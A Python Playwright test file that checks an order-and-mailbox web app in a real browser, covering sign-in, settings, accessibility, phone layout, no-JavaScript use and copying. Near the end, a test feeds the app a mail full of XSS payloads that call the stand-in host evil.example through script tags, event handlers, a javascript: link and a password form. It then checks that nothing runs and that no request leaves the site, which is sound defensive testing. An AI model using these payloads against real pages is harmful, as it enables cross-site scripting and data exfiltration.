"""The pages in a real browser."""

from __future__ import annotations

import re
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from django.utils import timezone
from playwright.sync_api import BrowserContext, Page, Request, ViewportSize, expect

from orders import cancelling, events, flow, placing
from orders.models import MaskType, Order, ShopKind, Status, Store, User
from orders.placing import Placed
from orders.secrecy import Secret
from orders.shops import connections
from tests import factories
from tests.orders.shops import payloads

PAGES = [
    "sign-in", "list", "search", "order", "asked", "travelled", "answer", "settings", "suppressions", "shops", "hooks",
    "stores", "people", "letter", "write", "nothing",
]  # fmt: skip
PHONE = ViewportSize(width=390, height=844)
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]


@pytest.fixture
def go(page: Page, site: str, order_url: str, letterbox: Any, request: pytest.FixtureRequest) -> Any:
    """Go to a page by its name, signed in where that is needed."""

    def visit(name: str) -> Page:
        if name == "sign-in":
            page.goto(f"{site}/sign-in/")
            return page
        request.getfixturevalue("signed_in")
        paths = {
            "list": "/orders/",
            "search": "/orders/?q=nothing",
            "settings": "/settings/acme/orders/",
            "suppressions": "/settings/acme/suppressions/",
            "shops": "/settings/acme/shops/",
            "hooks": "/settings/acme/hooks/",
            "stores": "/settings/",
            "people": "/mailbox/",
            "letter": f"/mailbox/mails/{_newest_letter()}/",
            "write": "/mailbox/write/",
            "nothing": "/orders/acme/nothing/",
        }
        if name == "suppressions":
            factories.make_suppression(request.getfixturevalue("conversation").customer_alias)
        if name == "shops":
            _connect_shops(request.getfixturevalue("conversation").order.store)
        if name == "hooks":
            _set_up_hooks(request.getfixturevalue("conversation").order.store)
        if name in {"travelled", "answer"}:
            order = request.getfixturevalue("travelled").order
            mail = factories.make_mail(*reversed(placing.parties(order.aliases.all())), subject="When?")
            rest = "" if name == "travelled" else f"write/?about={mail.pk}"
            page.goto(f"{site}/orders/acme/{order.number}/{rest}")
            return page
        if name == "asked":
            _ask_to_cancel(request.getfixturevalue("conversation").order)
        page.goto(order_url if name in {"order", "asked"} else site + paths[name])
        return page

    return visit


def _ask_to_cancel(order: Order) -> None:
    for status in (Status.WAITING_FOR_FULFILLMENT, Status.READY_FOR_HANDLING):
        flow.move(order, status, actor="Acme shop", now=timezone.now())
    cancelling.cancel(
        order, reason="Ordered twice by mistake", actor="Acme shop", now=timezone.now(), is_customers_wish=True
    )  # fmt: skip


def _connect_shops(store: Store) -> None:
    """One that works, with a call taken over, one left out and one that cannot be read; one without its secret."""
    user = User.objects.filter(memberships__store=store)[0]
    shop = payloads.make_shop(store, ShopKind.SHOPIFY, user=user)
    payloads.post_shopify(shop, payloads.shopify())
    payloads.post_shopify(shop, payloads.shopify(id=2, email="", contact_email="", customer=None))
    payloads.post_shopify(shop, b"garbage")
    payloads.work()
    connections.connect(store, ShopKind.SHOPIFY, name="new.example", secret="", user=user, now=timezone.now())


def _set_up_hooks(store: Store) -> None:
    """One that works, with a delivery; one that was switched off; a feed; and a key that has none of them."""
    works, off, _ = (factories.make_key(store) for _ in range(3))
    told: dict[str, Any] = {
        "statuses": ["invoiced"],
        "kinds": ["message.received"],
        "headers": Secret.of_json({"X-Key": "s3cret"}),
    }
    factories.make_hook(works, "https://erp.example/a-rather-long-path/of-the-target?with=a-query", **told)
    factories.make_hook(off, "https://other.example/", switched_off_at=timezone.now())
    factories.make_feed(works)
    factories.make_order(store)
    events.dispatch(now=timezone.now())


def _newest_letter() -> int:
    from conversation_tracker.local.models import LocalMail

    return LocalMail.objects.latest("pk").pk


def test_signing_in_and_out(page: Page, site: str, admin: User):
    page.goto(f"{site}/orders/")
    page.get_by_label("E-mail address").fill(admin.email)
    page.get_by_label("Password").fill(factories.PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(f"{site}/orders/")
    page.get_by_role("button", name="Sign out").click()
    expect(page).to_have_url(f"{site}/sign-in/")


def test_the_mask_type_is_changed_to_soft_and_back_and_kept(signed_in: Page, site: str, shop: Store):
    page = signed_in
    for name, value in (("Soft", MaskType.SOFT), ("Hard", MaskType.HARD)):
        page.goto(f"{site}/settings/acme/orders/")
        page.get_by_label(name, exact=True).check()
        page.get_by_role("button", name="Save", exact=True).click()
        expect(page.get_by_role("status").first).to_contain_text("Saved.")
        page.reload()
        expect(page.get_by_label(name, exact=True)).to_be_checked()
        shop.refresh_from_db()
        assert shop.mask_type == value


def test_the_search_bar_leads_to_the_settings(signed_in: Page, site: str, shop: Store):
    signed_in.get_by_role("searchbox").fill("Orders")
    signed_in.keyboard.press("Enter")
    signed_in.get_by_role("link", name="Store settings / Orders").click()
    expect(signed_in).to_have_url(f"{site}/settings/acme/orders/")


def test_the_search_bar_leads_from_an_alias_to_its_order(signed_in: Page, order_url: str, conversation: Placed):
    signed_in.get_by_role("searchbox").fill(conversation.customer_alias.address.text())
    signed_in.keyboard.press("Enter")
    expect(signed_in).to_have_url(order_url)


def test_a_timeline_is_read_with_quotes_and_the_formatted_body(signed_in: Page, order_url: str):
    page = signed_in
    page.goto(order_url)
    answer = page.get_by_role("article", name="Re: When will it arrive?", exact=True)
    expect(answer.get_by_text("Is it a birthday")).to_have_count(0)
    expect(answer.get_by_text("> It is a birthday present")).to_be_hidden()
    answer.get_by_text("Show quoted mail").click()
    expect(answer.get_by_text("> It is a birthday present")).to_be_visible()
    answer.get_by_text("Formatted version").click()
    frame = answer.frame_locator("iframe")
    expect(frame.get_by_role("heading", name="Your order is on its way")).to_be_visible()
    expect(frame.get_by_text("1 picture from the internet was not loaded")).to_be_visible()
    drawn = frame.get_by_alt_text("Acme").evaluate("image => image.complete && image.naturalWidth")
    assert drawn == 1


def test_what_was_unfolded_stays_so_after_a_reload(signed_in: Page, order_url: str):
    signed_in.goto(order_url)
    signed_in.get_by_text("Show quoted mail").first.click()
    signed_in.reload()
    expect(signed_in.get_by_text("> It is a birthday present")).to_be_visible()


def test_a_mail_that_did_not_arrive_is_sent_again_from_the_top_of_its_order(signed_in: Page, order_url: str):
    page = signed_in
    page.goto(order_url)
    attention = page.get_by_role("region", name="1 matter needs attention")
    expect(attention.get_by_text("The mail is held: it may show a real address")).to_be_visible()
    attention.get_by_role("button", name="Send again Delivery on Thursday between 9 and 12").click()
    expect(page.get_by_role("status").first).to_contain_text("The mail is being sent again.")
    expect(attention.get_by_text("It is being sent again.")).to_be_visible()
    attention.get_by_role("button", name="Dismiss").click()
    expect(page.get_by_role("status").first).to_contain_text("The alert is dismissed.")
    expect(attention).to_have_count(0)


def test_the_orders_that_need_attention_are_a_tick_away(signed_in: Page, site: str, shop: Store, conversation: Placed):
    quiet = factories.make_order(shop)
    page = signed_in
    page.goto(f"{site}/orders/")
    page.get_by_label("Needs attention 1").check()
    page.get_by_role("button", name="Apply").click()
    expect(page.get_by_role("link", name=conversation.order.number)).to_be_visible()
    expect(page.get_by_role("link", name=quiet.number)).to_have_count(0)
    expect(page.get_by_label("Needs attention 1")).to_be_checked()


def test_a_suppressed_address_is_found_in_the_settings_and_lifted(signed_in: Page, site: str, conversation: Placed):
    factories.make_suppression(conversation.customer_alias)
    page = signed_in
    page.goto(f"{site}/settings/acme/orders/")
    page.get_by_role("link", name="Suppressed addresses").click()
    page.get_by_role("button", name="Lift").click()
    expect(page.get_by_role("status").first).to_contain_text("Lifted.")
    expect(page.get_by_role("heading", name="No address is suppressed")).to_be_visible()


@pytest.mark.parametrize("name", PAGES)
def test_axe_finds_no_violation_in_light_and_dark(name: str, go: Any, page: Page):
    go(name)
    for summary in page.locator("main summary").all():
        summary.click()
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        found = Axe().run(page, options={"runOnly": RULES})
        assert found.violations_count == 0, f"{scheme}: {found.generate_report()}"


@pytest.mark.parametrize("name", PAGES)
def test_a_page_fits_a_phone_and_says_nothing_to_the_console(name: str, go: Any, page: Page):
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    go(name)
    page.set_viewport_size(PHONE)
    page.wait_for_load_state("networkidle")
    widths = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert widths == [390, 390]
    assert [text for text in said if "404 (Not Found)" not in text] == []


class TestWithoutScripts:
    """Everything works where JavaScript is off."""

    @pytest.fixture
    def context_options(self) -> dict[str, Any]:
        return {"java_script_enabled": False}

    def test_the_mask_type_is_changed(self, signed_in: Page, site: str, shop: Store):
        signed_in.goto(f"{site}/settings/acme/orders/")
        signed_in.get_by_label("Soft", exact=True).check()
        signed_in.get_by_role("button", name="Save", exact=True).click()
        expect(signed_in.get_by_text("Saved.")).to_be_visible()

    def test_a_timeline_is_read(self, signed_in: Page, order_url: str):
        signed_in.goto(order_url)
        signed_in.get_by_text("Formatted version").first.click()
        frame = signed_in.frame_locator("iframe")
        expect(frame.get_by_role("heading", name="Your order is on its way")).to_be_visible()
        expect(signed_in.locator("[data-copy]").first).to_be_hidden()


def test_the_keyboard_alone_reaches_and_saves_the_choice(signed_in: Page, site: str, shop: Store):
    page = signed_in
    page.goto(f"{site}/settings/acme/orders/")
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to content")).to_be_focused()
    page.keyboard.press("Enter")
    _tab_to(page, "input[name=mask_type]:checked")
    page.keyboard.press("ArrowDown")
    _tab_to(page, "form.settings button")
    page.keyboard.press("Enter")
    expect(page.get_by_role("status").first).to_contain_text("Saved.")
    shop.refresh_from_db()
    assert shop.mask_type == MaskType.SOFT


def _tab_to(page: Page, selector: str) -> None:
    for _ in range(20):
        page.keyboard.press("Tab")
        if page.evaluate("selector => document.activeElement.matches(selector)", selector):
            return
    pytest.fail(f"the keyboard does not reach {selector}")


class TestCopying:
    """The copy button."""

    @pytest.fixture
    def context_options(self) -> dict[str, Any]:
        return {"permissions": ["clipboard-read", "clipboard-write"]}

    def test_an_alias_is_copied(self, signed_in: Page, order_url: str, conversation: Placed):
        signed_in.goto(order_url)
        signed_in.get_by_role("button", name="Copy the alias of: Store").click()
        expect(signed_in.locator("#said")).to_have_text("Copied")
        assert signed_in.evaluate("navigator.clipboard.readText()") == conversation.store_alias.address.text()


HOSTILE = """\
<script>parent.document.title = "ran"; fetch("https://evil.example/script")</script>
<img src="https://evil.example/pixel.gif" onerror="fetch('https://evil.example/onerror')">
<img src="cid:none" onerror="fetch('https://evil.example/cid')" onload="fetch('https://evil.example/load')">
<form action="https://evil.example/form"><input name="password" autofocus><button>Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/style.css">
<style>@import "https://evil.example/import.css"; body {background: url(https://evil.example/background.png)}</style>
<svg onload="fetch('https://evil.example/svg')"><image href="https://evil.example/image.svg"/></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<p style="background-image: url(https://evil.example/inline.png)">Words that may be read</p>
<video src="https://evil.example/video" poster="https://evil.example/poster" autoplay></video>
<a href="javascript:fetch('https://evil.example/link')">A link</a>
"""


def test_a_hostile_mail_runs_nothing_and_no_request_leaves(
    signed_in: Page, context: BrowserContext, site: str, order_url: str, conversation: Placed
):
    factories.make_mail(
        conversation.customer_alias,
        conversation.store_alias,
        subject="<script>fetch('https://evil.example/subject')</script>",
        text="<img src=x onerror=\"fetch('https://evil.example/text')\">",
        html=HOSTILE,
        sender_name=Secret.of("<b onclick=x>Eve</b>"),
    )
    requests: list[str] = []
    context.on("request", lambda request: requests.append(_host(request)))
    page = signed_in
    page.goto(order_url)
    title = page.title()
    mail = page.get_by_role("article").last
    mail.get_by_text("Formatted version").click()
    frame = mail.frame_locator("iframe")
    expect(frame.get_by_text("Words that may be read")).to_be_visible()
    frame.get_by_text("A link").click()
    page.wait_for_timeout(700)
    assert set(requests) == {_host_of(site)}
    assert page.title() == title
    assert len(context.pages) == 1 or all(_host_of(tab.url) in {_host_of(site), ""} for tab in context.pages)
    assert frame.locator("script, form, input, meta[http-equiv], base, link, svg, iframe, object, video").count() == 0


def _host(request: Request) -> str:
    return _host_of(request.url)


def _host_of(url: str) -> str:
    found = re.match(r"https?://([^/]+)", url)
    return found[1] if found else ""
